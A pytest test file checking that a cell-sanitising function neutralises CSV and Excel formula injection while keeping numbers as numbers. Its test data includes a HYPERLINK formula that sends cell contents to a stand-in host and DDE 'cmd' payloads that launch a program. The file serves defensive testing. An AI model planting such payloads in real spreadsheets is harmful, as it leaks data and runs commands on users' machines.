"""Cells for CSV and Excel files: formula injection neutralised, numbers kept as numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desist.core.cells import FORMULA_STARTS, safe_cell, safe_row

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        -3,
        -2.5,
        Decimal("-0.1"),
        0,
        7,
        "-12",
        "-12.5",
        "+4",
        "-1e5",
        "",
        None,
        date(2026, 1, 1),
        True,
        "Amelia O'Brien",
        "Smith-Jones",
        "4 Oak Road",
    ],
)
def test_numbers_dates_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)), max_size=8))
def test_no_cell_written_to_csv_starts_a_formula_unless_it_is_a_plain_number(row):
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(row))
    for cell in next(csv.reader(io.StringIO(out.getvalue(), newline=""))):
        if cell and cell[0] in FORMULA_STARTS:
            float(cell)  # a plain number such as -2.5, which a spreadsheet reads as that number


@given(st.text())
def test_quoting_is_idempotent(text):
    assert safe_cell(safe_cell(text)) == safe_cell(text)
